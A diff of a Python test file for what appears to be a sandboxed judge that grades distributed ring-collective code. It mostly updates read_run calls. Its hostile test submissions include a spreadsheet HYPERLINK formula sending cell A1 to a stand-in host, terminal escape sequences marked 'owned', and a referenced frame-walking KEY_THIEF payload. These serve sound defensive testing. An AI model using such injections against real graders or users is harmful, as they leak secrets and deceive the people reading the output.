@@ -517,7 +517,8 @@ def ring_reduce_scatter(dist, chunks):
 """,
     "ring_all_gather": _fullwidth(KEY_THIEF.format(names=NAMES), ("sys._getframe", "f_locals", "f_back", "os.write")),
     "ring_all_reduce": """
-raise type('=HYPERLINK("http://example.invalid/?"&A1)', (Exception,), {})("\x1b]0;owned\x07\x1b[2J\x1b[31m")
+raise type('=HYPERLINK("http://example.invalid/?"&A1)', (Exception,), {"__module__": "builtins"})(
+    "\x1b]0;owned\x07\x1b[2J\x1b[31m")
 """,
 }
 
@@ -760,7 +761,7 @@ def test_a_run_crosses_to_the_judge_as_plain_data_and_a_lying_tensor_as_its_valu
                 torch.float16, ("t", True), object()]
 
     sent = run(answer, 2, per_rank([torch.arange(4.0), torch.ones(4)]))
-    result, error, _ = read_run(result_message(sent, []), CostModel())
+    result, error = read_run(result_message(sent), CostModel())
     assert error is None and isinstance(result, SimResult) and result.stats == sent.stats
     assert result.trace == sent.trace
     zeros, table, dtype, pair, other = result.results[0]
@@ -787,12 +788,12 @@ def test_an_error_crosses_as_the_same_kind_of_error():
             run(fn, 2, torch.ones(2))
         except RankFailed as e:
             sent = e
-        _, error, _ = read_run(error_message(sent, ["x replaced"]), CostModel())
+        _, error = read_run(error_message(sent), CostModel())
         assert isinstance(error, RankFailed) and str(error) == str(sent) and check(error), error
 
 
 @pytest.mark.parametrize("message", [b"", b"\0" * 8 + b"{}", b"junk", result_message(
-    run(lambda dist, x: x, 1, torch.ones(2)), [])[:-3]])
+    run(lambda dist, x: x, 1, torch.ones(2)))[:-3]])
 def test_a_message_that_is_not_evidence_is_refused(message):
     with pytest.raises(Unreadable):
         read_run(message, CostModel())
